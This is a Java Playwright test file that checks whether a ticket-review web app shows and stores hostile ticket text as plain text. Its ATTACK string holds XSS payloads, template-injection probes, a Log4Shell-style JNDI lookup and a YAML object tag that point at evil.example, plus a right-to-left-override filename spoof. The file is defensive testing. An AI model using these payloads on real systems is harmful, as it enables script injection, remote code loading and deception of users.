package dev.retrial.tickets.review;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Page;
import dev.retrial.browser.Chromium;
import dev.retrial.tickets.Role;
import dev.retrial.tickets.SeenCall;
import dev.retrial.tickets.TicketTurn;
import dev.retrial.tickets.draft.CaseYaml;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Tickets that want to be more than text. */
class HostileTicketTest {

    private static final String ATTACK =
            "</textarea></script><script>alert(1)</script><img src=https://evil.example/x onerror=alert(2)>"
                    + "<a href=\"javascript:alert(3)\">here</a> javascript:alert(4) ${7*7} {{7*7}} @if(true) <%= 1 %> ${jndi:ldap://evil.example/a}\n"
                    + "status: active\n- !!java.net.URL [\"https://evil.example\"]\n*anchor &anchor <<: x # y";

    private static final String TURNED = "safe\u202Etxt.exe\u202C and \u200Bnothing";

    private static final String REFERENCE = "hmac:00000000000000aa";

    private static Chromium chromium;

    @TempDir
    private Path directory;

    @BeforeAll
    static void launch() {
        chromium = Chromium.start();
    }

    @AfterAll
    static void quit() {
        if (chromium != null) {
            chromium.close();
        }
    }

    @Test
    void what_a_ticket_says_is_text_wherever_it_is_shown_and_written() throws IOException {
        ReviewedSuite suite = new ReviewedSuite(directory)
                .draft("attack", CaseYaml.write(attack()))
                .ticket(REFERENCE, attackTicket());
        suite.write("cases/other/attacked.yaml", CaseYaml.write(active(attack())));
        try (ReviewServer server = ReviewServer.start(suite.settings());
                ReviewInBrowser open = new ReviewInBrowser(chromium, server.uri())) {
            Page page = open.page();
            assertThat(page.locator(".drafts a")).containsText("<script>alert(1)</script>");

            open.to("attack");
            assertThat(page.locator(".said.customer .text").first())
                    .containsText("</textarea></script><script>alert(1)</script><img src=https://evil.example/x");
            assertThat(page.locator(".said.customer .text").first()).containsText("${7*7} {{7*7}}");
            assertThat(page.locator(".said.ai-agent .text")).containsText("safeU+202Etxt.exeU+202C and U+200Bnothing");
            assertThat(page.locator("#message-0")).hasValue(ATTACK);
            page.locator(".call summary").click();
            assertThat(page.locator(".call pre").first()).containsText("<script>alert(1)");
            page.locator("#why").fill(ATTACK);
            open.press("Escape", "y");
            assertThat(page.locator("#yaml")).isVisible();
            open.press("m");
            assertThat(page.locator("dialog .cases strong").first()).containsText("<script>alert(1)</script>");
            open.press("Escape", "a");
            page.locator("dialog button").getByText("Accept it all the same").click();
            assertThat(page.locator("h1")).hasText("All 1 reviewed");

            assertThat(page.locator("img, iframe, object, embed, a[href^=javascript]")
                            .count())
                    .isZero();
            assertThat(page.locator("script").count()).isEqualTo(1);
            assertThat(open.requests()).isEmpty();
            assertThat(open.complaints()).isEmpty();
        }
        ObjectNode expected = active(attack()).put("why", ATTACK);
        JsonNode written = CaseTree.read(suite.read("cases/wrong-tone/attack.yaml"));
        assertThat(written.path("why").asText()).isEqualTo(ATTACK);
        assertThat(written.path("conversation")).isEqualTo(expected.path("conversation"));
        assertThat(written.path("title")).isEqualTo(expected.path("title"));
        assertThat(suite.cases()).containsExactly("other/attacked.yaml", "wrong-tone/attack.yaml");
    }

    @Test
    void a_message_of_a_megabyte_is_shown_in_part_until_somebody_wants_it() throws IOException {
        String large = "word ".repeat(210_000) + "THE END";
        ReviewedSuite suite = new ReviewedSuite(directory)
                .draft("attack", CaseYaml.write(attack()))
                .ticket(
                        REFERENCE,
                        new TicketSource.ShownTicket(
                                ReviewedSuite.ticket(REFERENCE, ReviewedSuite.turn(Role.CUSTOMER, large)), List.of()));
        try (ReviewServer server = ReviewServer.start(suite.settings());
                ReviewInBrowser open = new ReviewInBrowser(chromium, server.uri())) {
            Page page = open.to("attack").page();
            assertThat(page.locator(".said .text").textContent()).hasSizeLessThan(5_000);
            page.getByText("Show all 1,050,007 characters").click();
            assertThat(page.locator(".said .text")).containsText("THE END");
            open.press("y");
            assertThat(page.locator("#yaml")).isVisible();
        }
    }

    private static ObjectNode attack() {
        ObjectNode json = JsonNodeFactory.instance.objectNode();
        json.put("title", ATTACK.substring(0, ATTACK.indexOf('\n')));
        json.put("status", "draft").put("failure", "wrong-tone");
        json.putObject("ticket").put("ref", REFERENCE).put("category", ATTACK);
        json.putArray("conversation").addObject().put("customer", ATTACK);
        json.putObject("expect").putObject("reply").putArray("never-says").add(ATTACK);
        json.putArray("observed").addObject().put("reply", TURNED);
        ObjectNode draft = json.putObject("draft");
        draft.put("family", ATTACK).putArray("fill-in").add(ATTACK);
        draft.putArray("evidence").addObject().put("rule", "x").put("words", ATTACK);
        return json;
    }

    private static ObjectNode active(ObjectNode draft) {
        draft.remove("draft");
        return draft.put("status", "active");
    }

    private static TicketSource.ShownTicket attackTicket() {
        ObjectNode arguments = JsonNodeFactory.instance.objectNode().put(ATTACK, ATTACK);
        TicketTurn agent = new TicketTurn(
                Role.AI_AGENT,
                "test",
                null,
                TURNED,
                null,
                List.of(new SeenCall(ATTACK, arguments, JsonNodeFactory.instance.textNode(ATTACK), false)),
                List.of(ATTACK));
        return new TicketSource.ShownTicket(
                ReviewedSuite.ticket(REFERENCE, ReviewedSuite.turn(Role.CUSTOMER, ATTACK), agent), List.of());
    }
}
